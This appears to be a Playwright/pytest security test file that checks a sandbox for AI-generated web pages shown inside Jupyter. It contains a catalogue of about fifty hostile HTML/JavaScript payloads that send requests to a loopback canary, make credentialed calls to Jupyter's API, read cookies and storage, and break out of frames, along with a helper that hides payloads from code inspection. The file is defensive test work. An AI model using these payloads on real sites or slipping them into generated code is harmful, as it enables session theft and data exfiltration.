"""Hostile pages in a real Chromium: nothing leaves the frame, nothing of the user's is reached.

The pages are answers' programs, one of each environment: they go in through a battle and are shown as the panel
shows them, in a frame of a page that has the user's session, and once more each in a tab of its own. There they
are handed one attack each, so that no builder can tell it by the code. They aim at a server on loopback that
counts every connection, and at Jupyter with the user's cookies.
"""
# ruff: noqa: E501

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from itertools import islice
from typing import TypeVar

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from ..openai_server import Behaviour, OpenAIServer
from .lab import TOKEN, Lab

pytestmark = pytest.mark.xdist_group("e2e/models")

T = TypeVar("T")

# Before the frame's own script could refuse it.
QUIET = "<script>addEventListener('click', e => e.stopImmediatePropagation(), true)</script>"
# {C} is the canary's address, {J} Jupyter's, {N} the attack's name; `say` reports to the page around.
ATTACKS = {
    "fetch": "<script>fetch('{C}/{N}').catch(() => 0); fetch('{C}/{N}', {{mode: 'no-cors', keepalive: true}})</script>",
    "xhr": "<script>const x = new XMLHttpRequest(); x.open('GET', '{C}/{N}'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('{C}/{N}', 'x')</script>",
    "event-source": "<script>new EventSource('{C}/{N}')</script>",
    "websocket": "<script>new WebSocket('{W}/{N}')</script>",
    "webtransport": "<script>new WebTransport('https://{H}/{N}')</script>",
    "image": "<img src='{C}/{N}'><script>new Image().src = '{C}/{N}'</script>",
    "srcset": "<picture><source srcset='{C}/{N}'><img srcset='{C}/{N} 2x'></picture>",
    "svg": "<svg><image href='{C}/{N}'/><use href='{C}/{N}#x'/></svg>",
    "media": "<video src='{C}/{N}' poster='{C}/{N}' autoplay></video><audio src='{C}/{N}' autoplay></audio><track src='{C}/{N}'>",
    "script": "<script src='{C}/{N}'></script><script type=module>import('{C}/{N}')</script>",
    "style": "<link rel=stylesheet href='{C}/{N}'><style>@import '{C}/{N}'; p {{ background: url({C}/{N}) }}</style><p>x",
    "font": "<style>@font-face {{ font-family: f; src: url({C}/{N}) }} p {{ font-family: f }}</style><p>x",
    "hints": (
        "<link rel=prefetch href='{C}/{N}'><link rel=preload as=image href='{C}/{N}'>"
        "<link rel=modulepreload href='{C}/{N}'><link rel=prerender href='{C}/{N}'><link rel=icon href='{C}/{N}'>"
        "<link rel=manifest href='{C}/{N}'>"
    ),
    "preconnect": "<link rel=preconnect href='{C}'><link rel=dns-prefetch href='{C}'>",
    "speculation": (
        "<script type=speculationrules>{{\"prefetch\": [{{\"source\": \"list\", \"urls\": [\"{C}/{N}\"]}}],"
        "\"prerender\": [{{\"source\": \"list\", \"urls\": [\"{C}/{N}\"]}}]}}</script>"
    ),
    "meta-refresh": "<meta http-equiv=refresh content='0;url={C}/{N}'>",
    "base": "<base href='{C}/'><img src='{N}'><script src='{N}'></script>",
    "own-navigation": "<script>location = '{C}/{N}'; location.replace('{C}/{N}')</script>",
    "link": QUIET + "<a id=l href='{C}/{N}' ping='{C}/{N}'>x</a><script>l.click()</script>",
    "download": QUIET + "<a id=l href='{C}/{N}' download>x</a><script>l.click()</script>",
    "blank-link": QUIET + "<a id=l href='{C}/{N}' target=_blank rel=opener>x</a><script>l.click()</script>",
    "popup": "<script>say(String(window.open('{C}/{N}')))</script>",
    "nested-popup": "<iframe srcdoc=\"<script>open('{C}/{N}'); open('{C}/{N}', '_top')</script>\"></iframe>",
    "top": "<script>try {{ top.location = '{C}/{N}' }} catch (e) {{ say('blocked') }}</script>",
    "parent": "<script>try {{ parent.location = '{C}/{N}' }} catch (e) {{ say('blocked') }}</script>",
    "top-link": QUIET + "<a id=l href='{C}/{N}' target=_top>x</a><script>l.click()</script>",
    "form": "<form id=f method=post action='{C}/{N}'><input name=x value=y></form><script>f.submit()</script>",
    "form-top": "<form id=f target=_top action='{C}/{N}'></form><script>f.submit()</script>",
    "frame": "<iframe src='{C}/{N}'></iframe><object data='{C}/{N}'></object><embed src='{C}/{N}'>",
    "nested": "<iframe srcdoc=\"<script>fetch('{C}/{N}'); location = '{C}/{N}'</script>\"></iframe>",
    "nested-image": "<iframe srcdoc=\"<img src='{C}/{N}'>\"></iframe>",
    "blob-frame": "<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<img src='{C}/{N}'>`], {{type: 'text/html'}})); document.documentElement.append(f)</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{C}/{N}'); importScripts('{C}/{N}')`])))</script>",
    "shared-worker": "<script>new SharedWorker('data:text/javascript,fetch(`{C}/{N}`)')</script>",
    "service-worker": (
        "<script>try {{ navigator.serviceWorker.register('{C}/{N}').then(() => say('reached'), () => say('blocked')) }}"
        " catch (e) {{ say('blocked') }}</script>"
    ),
    "csp-report": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri {C}/{N}\"><img src='data:,x'>",
    "jupyter-rest": "<script>fetch('{J}api/contents?evil={N}', {{credentials: 'include'}}).then(() => say('reached'), () => say('blocked'))</script>",
    "jupyter-no-cors": "<script>fetch('{J}api/contents?evil={N}', {{mode: 'no-cors', credentials: 'include'}}).then(() => say('reached'), () => say('blocked'))</script>",
    "jupyter-image": "<img src='{J}api/contents?evil={N}'>",
    "jupyter-socket": "<script>const w = new WebSocket('{J}api/events/subscribe?evil={N}'.replace('http', 'ws')); w.onopen = () => say('reached'); w.onerror = () => say('blocked')</script>",
    "jupyter-form": "<form id=f method=post action='{J}api/contents?evil={N}'></form><script>f.submit()</script>",
    "jupyter-navigation": "<script>location = '{J}lab?evil={N}'</script>",
    "page-dom": "<script>try {{ say('reached ' + top.document.title) }} catch (e) {{ say('blocked') }}</script>",
    "page-parent-dom": "<script>try {{ say('reached ' + parent.document.title) }} catch (e) {{ say('blocked') }}</script>",
    "sibling-dom": "<script>try {{ say('reached ' + top.frames[0].document.title) }} catch (e) {{ say('blocked') }}</script>",
    "sibling-frames": "<script>try {{ say('reached ' + top.frames[0].location.href) }} catch (e) {{ say('blocked') }}</script>",
    "page-storage": "<script>try {{ say('reached ' + top.localStorage.length) }} catch (e) {{ say('blocked') }}</script>",
    "cookies": (
        "<script>const d = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');"
        "try {{ say('reached ' + d.get.call(document)) }} catch (e) {{ say('blocked') }}</script>"
    ),
    "storage": (
        "<script>const d = Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage')"
        " || {{get: () => {{ throw 1 }}}};"
        "try {{ say('reached ' + d.get.call(window).length) }} catch (e) {{ say('blocked') }}</script>"
    ),
    "databases": "<script>try {{ indexedDB.open('x'); say('reached') }} catch (e) {{ say('blocked') }}</script>",
    "origin": "<script>say(self.origin === 'null' ? 'blocked' : 'reached ' + self.origin)</script>",
    "opener": "<script>say(top.opener ? 'reached' : 'blocked')</script>",
}  # fmt: skip
SAYING = {
    "jupyter-rest", "jupyter-no-cors", "jupyter-socket", "page-dom", "page-parent-dom", "sibling-dom",
    "sibling-frames", "page-storage", "cookies", "storage", "databases", "origin", "opener",
}  # fmt: skip

# In a tab of its own, the first frame of the top page is the attacker itself.
OWN_IN_A_TAB = {"sibling-dom", "sibling-frames"}


@dataclass
class Canary:
    """A listener that counts everything that knocks, down to a bare connection."""

    address: str = ""
    knocks: list[str] = field(default_factory=list)


@pytest.fixture
def canary() -> Iterator[Canary]:
    listener = socket.create_server(("127.0.0.1", 0))
    canary = Canary(f"127.0.0.1:{listener.getsockname()[1]}")

    def serve() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(0.5)
                try:
                    head = connection.recv(4096).decode(errors="replace").partition("\r\n")[0]
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    head = ""
            canary.knocks.append(head or "a connection without a request")

    thread = threading.Thread(target=serve)
    thread.start()
    yield canary
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()
    thread.join()


@pytest.fixture
def lab(models_lab: Lab) -> Lab:
    return models_lab


# Pages that do with themselves what they are told: `data` is the attack.
INSERT = (
    "window.say = text => console.log('SAID ' + text); window.addEventListener('message', ({ data }) => "
    "document.body.append(document.createRange().createContextualFragment(data))); console.log('READY')"
)
ATTACKERS = {
    "html": (
        "<!doctype html><title>x</title><script>window.say = text => console.log('SAID ' + text);"
        "addEventListener('message', ({ data }) => { document.open(); document.write(data); document.close() });"
        "console.log('READY')</script>"
    ),
    "react": (
        "import { useEffect } from 'react';\n"
        f"export default function App() {{ useEffect(() => {{ {INSERT} }}, []); return <p>x</p> }}"
    ),
    "vue": f"<script setup>\nimport {{ onMounted }} from 'vue'\nonMounted(() => {{ {INSERT} }})\n</script>\n<template>x</template>",
    "markdown": f'# x\n\n<img src="data:," onerror="{INSERT}">\n',
}  # fmt: skip


def hidden(html: str) -> str:
    """A page that writes its attack only when it runs: no check of the code's text sees it."""
    text = json.dumps(html).replace("<", "\\u003c")
    return f"<script>document.write({text})</script>"


def framed(
    lab: Lab, server: OpenAIServer, pages: dict[str, str], environment: str = "html"
) -> dict[str, str]:
    """Frame addresses of pages that were run in a battle."""
    for name in ("left", "right"):
        server.models[name] = Behaviour("```html\n<!doctype html><title>x</title><p>x</p>\n```")
        lab.api("POST", "models", json=server.entry(name)).raise_for_status()
    battle = lab.api("POST", "battles", json={"prompt": "x"}).json()
    path = f"battles/{battle['battle_id']}"
    urls: dict[str, str] = {}
    _settled(lab, path)
    for pair in batched(pages.items(), 2):
        for side, (_, html) in zip("ab", pair, strict=False):
            body = {"code": html, "environment": environment}
            lab.api("POST", f"{path}/sides/{side}/run", json=body).raise_for_status()
        sides = _settled(lab, path)["sides"]
        for side, (name, _) in zip("ab", pair, strict=False):
            assert sides[side]["frame"], (name, sides[side]["execution"])
            urls[name] = lab.url + sides[side]["frame"]
    assert len(set(urls.values())) == len(pages)
    return urls


def batched(items: Iterable[T], size: int) -> Iterator[list[T]]:
    """The items in groups of at most `size`."""
    rest = iter(items)
    while group := list(islice(rest, size)):
        yield group


def _settled(lab: Lab, path: str) -> dict[str, dict[str, dict[str, str]]]:
    for _ in range(600):
        view = lab.api("GET", path).json()
        if view["phase"] == "ready" and not any(side["busy"] for side in view["sides"].values()):
            return dict(view)
        assert view["phase"] not in {"failed", "stopped"}, view
        time.sleep(0.05)
    raise AssertionError("the battle did not get ready")


def in_tab(context: BrowserContext, url: str, attack: str) -> tuple[Page, list[str]]:
    """A new tab at the frame's own address, and what is said there once it is told the attack."""
    tab = context.new_page()
    heard: list[str] = []
    with tab.expect_console_message(lambda message: message.text == "READY"):
        tab.on("console", lambda message: heard.append(message.text))
        tab.goto(url)
    tab.evaluate("attack => postMessage(attack, '*')", attack)
    return tab, heard


def open_frames(
    page: Page, urls: dict[str, str], sandbox: str | None, attacks: dict[str, str] | None = None
) -> None:
    """Show each page in a frame of this page, as the panel does, and tell it its attack when it is ready."""
    page.evaluate(
        """([urls, sandbox, attacks]) => {
          window.said = {};
          window.frameOf = new Map();
          addEventListener('message', event => {
            const name = window.frameOf.get(event.source);
            if (!name || event.data.type !== 'codearena:console') return;
            if (event.data.text === 'READY') event.source.postMessage(attacks[name], '*');
            if (event.data.text.startsWith('SAID ')) (window.said[name] ??= []).push(event.data.text.slice(5));
          });
          for (const [name, url] of Object.entries(urls)) {
            const frame = document.createElement('iframe');
            if (sandbox) frame.sandbox = sandbox;
            frame.src = url;
            document.body.append(frame);
            window.frameOf.set(frame.contentWindow, name);
          }
        }""",
        [urls, sandbox, attacks or {}],
    )


@pytest.mark.timeout(240)
@pytest.mark.parametrize(
    "environment",
    ["html", *(pytest.param(name, marks=pytest.mark.slow) for name in ("react", "vue", "markdown"))],
)
def test_nothing_leaves_a_frame_and_nothing_of_the_users_is_reached(
    environment: str,
    browser: Browser,
    lab: Lab,
    openai_server: OpenAIServer,
    canary: Canary,
) -> None:
    addresses = {
        "C": f"http://{canary.address}", "W": f"ws://{canary.address}", "H": canary.address, "J": lab.url
    }  # fmt: skip
    attacks = {name: html.format(N=name, **addresses) for name, html in ATTACKS.items()}
    (url,) = framed(lab, openai_server, {"attacker": ATTACKERS[environment]}, environment).values()
    urls = dict.fromkeys(attacks, url)
    before = len(lab.log.read_text())
    context = browser.new_context(accept_downloads=False)
    page = context.new_page()
    page.goto(f"{lab.url}api/status?token={TOKEN}")  # now the browser has the user's cookie
    assert any(cookie["name"].startswith("username") for cookie in context.cookies())
    for sandbox in ("allow-scripts allow-forms allow-modals allow-downloads allow-pointer-lock", None):
        page.goto(f"{lab.url}no-such-page")
        address = page.url
        open_frames(page, urls, sandbox, attacks)
        page.wait_for_function(f"Object.keys(window.said).length >= {len(SAYING)}", timeout=60_000)
        page.wait_for_timeout(3_000)
        said = page.evaluate("window.said")
        assert {name: said.get(name, [""])[0] for name in SAYING} == dict.fromkeys(SAYING, "blocked")
        assert said.get("popup", ["null"])[0] == "null"
        assert page.url == address
        assert len(context.pages) == 1
    for group in batched(attacks.items(), 12):
        tabs = {name: in_tab(context, url, attack) for name, attack in group}
        page.wait_for_timeout(700)
        for name, (tab, heard) in tabs.items():
            assert tab.url == url, name
            reached = [text for text in heard if "SAID reached" in text and name not in OWN_IN_A_TAB]
            assert not reached, (name, reached)
            tab.close()
    assert len(context.pages) == 1
    assert canary.knocks == [], canary.knocks
    assert "evil=" not in lab.log.read_text()[before:]
    # The instruments work: a page without the policy is heard by both.
    page.evaluate(f"fetch('http://{canary.address}/control', {{mode: 'no-cors'}})")
    page.evaluate(f"fetch('{lab.url}api/contents?evil=control')")
    page.wait_for_timeout(500)
    assert canary.knocks[0].startswith("GET /control")
    assert "evil=control" in lab.log.read_text()[before:]
    context.close()


@pytest.mark.timeout(120)
def test_a_page_that_never_ends_freezes_neither_the_server_nor_jupyters_page(
    browser: Browser,
    lab: Lab,
    openai_server: OpenAIServer,
) -> None:
    urls = framed(lab, openai_server, {"loop": "<script>while (true);</script>"})
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{lab.url}no-such-page?token={TOKEN}")
    open_frames(page, urls, "allow-scripts")
    page.wait_for_timeout(1_000)
    started = time.monotonic()
    assert lab.api("GET", "examples").is_success
    assert page.evaluate("1 + 1") == 2
    assert time.monotonic() - started < 5
    context.close()


WEBRTC = """
<script>
  const call = `<script>
    const options = {{iceServers: [{{urls: 'turn:{H}?transport=tcp', username: 'u', credential: 'c'}}]}};
    const peer = new RTCPeerConnection(options);
    peer.createDataChannel('x');
    peer.createOffer().then(offer => peer.setLocalDescription(offer));
  <\\/script>`;
  const frame = document.createElement('iframe');
  frame.srcdoc = call;
  document.documentElement.append(frame);
</script>
"""


@pytest.mark.timeout(120)
def test_a_frame_within_the_frame_gets_no_connection_by_webrtc_and_ends_only_itself(
    browser: Browser, lab: Lab, openai_server: OpenAIServer, canary: Canary
) -> None:
    urls = framed(lab, openai_server, {"webrtc": hidden(WEBRTC.format(H=canary.address))})
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{lab.url}no-such-page?token={TOKEN}")
    beat = f"setInterval(() => fetch('{lab.url}codearena/api/examples?beat=' + window.beats++), 200)"
    page.evaluate(f"window.beats = 0; {beat}")
    open_frames(page, urls, "allow-scripts")
    time.sleep(4)  # the driver takes the end of the frame's process for the page's and talks no more to it
    assert canary.knocks == []
    assert "beat=15 " in lab.log.read_text(), "Jupyter's page died with the frame"
    context.close()
